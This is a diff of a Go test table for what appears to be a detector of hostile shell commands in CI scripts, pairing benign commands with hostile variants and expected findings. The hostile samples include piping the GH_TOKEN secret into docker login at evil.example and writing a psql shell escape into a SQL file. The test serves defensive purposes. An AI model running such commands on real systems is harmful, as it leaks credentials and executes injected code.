@@ -169,7 +169,7 @@ func TestKindNoFalseAlarms(t *testing.T) {
 		{name: "psql -f, the project's SQL", benign: "psql -h db.example -v ON_ERROR_STOP=1 -f migrations/001_init.sql",
 			hostile: "echo '\\! id' > m.sql; psql -h db.example -f m.sql", want: "psql runs code from /work/app/m.sql, which the script wrote at line 1"},
 		{name: "yarn passes its words to the script", benign: "yarn install --frozen-lockfile && yarn test --ci --watchAll=false"},
-		{name: "GitHub's registry logged in with GitHub's token", benign: `echo "$GH_TOKEN" | docker login ghcr.io -u bot --password-stdin`, markedOK: "uses secret GH_TOKEN",
+		{name: "GitHub's registry logged in with GitHub's token", benign: `echo "$GH_TOKEN" | docker login ghcr.io -u bot --password-stdin && docker build -t ghcr.io/o/a:1 . && docker push ghcr.io/o/a:1`, markedOK: "uses secret GH_TOKEN",
 			hostile: `echo "$GH_TOKEN" | docker login evil.example -u bot --password-stdin`, want: "sends its input, secret data (from GH_TOKEN), to evil.example"},
 		{name: "go tool cover", benign: "go test -coverprofile=c.out ./... && go tool cover -func=c.out | tail -1",
 			hostile: "go tool cover -html=c.out", want: "-html=c.out is not one the device knows"},
